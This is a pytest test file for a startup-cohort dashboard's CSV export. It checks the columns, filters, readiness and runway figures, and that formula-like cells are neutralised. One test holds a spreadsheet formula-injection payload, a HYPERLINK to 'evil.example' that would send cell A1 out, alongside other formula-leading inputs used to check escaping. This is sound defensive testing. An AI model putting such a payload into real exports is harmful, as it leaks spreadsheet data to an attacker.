"""/cohorts/<slug>/canvases.csv: the dashboard's figures, one row per venture."""

from __future__ import annotations

import csv
import io

import pytest

from canvas.cohort import CSV_HEADER, csv_safe
from canvas.document import READINESS_QUESTIONS
from canvas.evaluator import BLOCKS, evaluate, readiness_summary, runway_summary
from canvas.models import Canvas, create_venture
from tests.conftest import client_for
from tests.test_cohort_dashboard import expected_status, load_demo


@pytest.fixture
def demo_client(db, settings):
    return client_for(load_demo(settings))


def read_csv(response) -> list[dict[str, str]]:
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = response.content.decode("utf-8")
    return list(csv.DictReader(io.StringIO(text)))


def renamed(doc, name: str):
    return doc.model_copy(update={"venture": doc.venture.model_copy(update={"name": name})})


def test_csv_is_a_download_with_a_header_row(demo_client):
    response = demo_client.get("/cohorts/demo-cohort/canvases.csv")
    assert response["Content-Disposition"] == 'attachment; filename="demo-cohort-canvases.csv"'
    first_line = response.content.decode().splitlines()[0]
    assert first_line == ",".join(CSV_HEADER)


def test_csv_holds_the_evaluators_figures_for_every_demo_venture(demo_client):
    rows = {r["slug"]: r for r in read_csv(demo_client.get("/cohorts/demo-cohort/canvases.csv"))}
    canvases = Canvas.objects.filter(venture__cohort__slug="demo-cohort").select_related("venture")
    assert set(rows) == {c.venture.slug for c in canvases}
    for canvas in canvases:
        doc = canvas.to_document()
        ev = evaluate(doc)
        row = rows[canvas.venture.slug]
        assert row["venture"] == doc.venture.name
        assert row["solution_type"] == doc.venture.solution_type
        assert row["market_stage"] == doc.venture.market_stage
        assert int(row["score"]) == ev.score
        assert (int(row["errors"]), int(row["warnings"]), int(row["infos"])) == (
            ev.errors,
            ev.warnings,
            ev.infos,
        )
        for block in BLOCKS:
            assert row[f"{block}_status"] == expected_status(ev, block)
        assert int(row["core_activities"]) == sum(1 for a in ev.activities if a.core)
        assert int(row["activities"]) == len(doc.activities)
        assert int(row["key_partners"]) == sum(1 for p in ev.partners if p.verdict == "key_partner")
        rated_vendor = sum(1 for p in ev.partners if p.verdict == "vendor")
        assert int(row["partners_rated_vendor"]) == rated_vendor
        assert int(row["vendors"]) == len(doc.vendors)  # the vendor list
        assert int(row["partners"]) == len(doc.partners)
        expected_runway = "" if ev.runway_months is None else str(ev.runway_months)
        assert row["runway_months"] == expected_runway
        milestone = doc.finances.months_to_milestone
        assert row["months_to_milestone"] == ("" if milestone is None else f"{milestone:g}")
        assert row["runway_against_milestone"] == runway_summary(doc.finances, ev)
        assert row["next_milestone"] == doc.finances.next_milestone
        answers = dict(doc.readiness.answers())
        yes = sum(1 for answer in answers.values() if answer is True)
        assert row["readiness"] == readiness_summary(doc.readiness)  # "3 of 5 answered · 2 yes"
        assert int(row["readiness_yes"]) == yes
        assert int(row["readiness_answered"]) == sum(1 for a in answers.values() if a is not None)
        assert int(row["readiness_questions"]) == len(READINESS_QUESTIONS)
        for question, answer in answers.items():
            assert row[f"readiness_{question}"] == {True: "yes", False: "no", None: ""}[answer]
        assert row["updated_at"].startswith(canvas.updated_at.date().isoformat())


def test_the_readiness_columns_come_from_the_question_list_not_a_fixed_count():
    header = list(CSV_HEADER)
    start = header.index("readiness_questions") + 1
    assert header[start : header.index("updated_at")] == [
        f"readiness_{q}" for q in READINESS_QUESTIONS
    ]
    assert not any(str(len(READINESS_QUESTIONS)) in c for c in CSV_HEADER)


def test_vendors_and_the_milestone_are_in_the_csv(demo_client):
    rows = {r["slug"]: r for r in read_csv(demo_client.get("/cohorts/demo-cohort/canvases.csv"))}
    assert int(rows["sepsis-dx"]["vendors"]) >= 1
    assert rows["sepsis-dx"]["months_to_milestone"] == "14"
    assert rows["sepsis-dx"]["runway_against_milestone"] == (
        "18.0 months of runway · milestone in 14 months · 4 months to raise"
    )
    assert rows["recoverwell"]["months_to_milestone"] == ""
    assert rows["recoverwell"]["runway_against_milestone"] == "Runway unknown · no milestone set"


def test_csv_follows_the_dashboards_filters_and_sort(demo_client):
    url = "/cohorts/demo-cohort/canvases.csv?solution_type=healthtech&sort=score&dir=desc"
    rows = read_csv(demo_client.get(url))
    assert [r["slug"] for r in rows] == ["rhythmwear", "sepsis-dx", "sonopoint"]


def test_dashboard_csv_link_carries_the_current_view(demo_client):
    page = demo_client.get("/cohorts/demo-cohort/?market_stage=target").content.decode()
    assert 'href="/cohorts/demo-cohort/canvases.csv?market_stage=target"' in page


def test_a_venture_named_like_a_formula_is_neutralised(carol_client, cohort, sepsis_doc):
    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
    create_venture("evil", renamed(sepsis_doc, evil), cohort=cohort)
    create_venture("plus", renamed(sepsis_doc, "+1 Health"), cohort=cohort)
    create_venture("minus", renamed(sepsis_doc, "-2 Labs"), cohort=cohort)
    create_venture("at", renamed(sepsis_doc, "@SUM(1+1)"), cohort=cohort)
    rows = {r["slug"]: r for r in read_csv(carol_client.get("/cohorts/northstar/canvases.csv"))}
    assert rows["evil"]["venture"] == "'" + evil
    assert rows["plus"]["venture"] == "'+1 Health"
    assert rows["minus"]["venture"] == "'-2 Labs"
    assert rows["at"]["venture"] == "'@SUM(1+1)"
    raw = carol_client.get("/cohorts/northstar/canvases.csv").content.decode()
    assert not any(line.startswith(("=", "+", "-", "@")) for line in raw.splitlines())
    assert ',"=' not in raw and ",=" not in raw


def test_commas_quotes_and_non_ascii_names_round_trip_as_utf8(carol_client, cohort, sepsis_doc):
    name = 'Clínica "Ñandú", São Paulo — 東京'
    create_venture("clinica", renamed(sepsis_doc, name), cohort=cohort)
    response = carol_client.get("/cohorts/northstar/canvases.csv")
    rows = {r["slug"]: r for r in read_csv(response)}
    assert rows["clinica"]["venture"] == name
    assert name.replace('"', '""').encode("utf-8") in response.content


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@cmd", "'@cmd"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Plain name", "Plain name"),
        ("a=b", "a=b"),
        ("", ""),
        (-1, -1),  # numbers are left alone
        (4.5, 4.5),
    ],
)
def test_csv_safe_prefixes_cells_that_start_a_formula(value, expected):
    assert csv_safe(value) == expected
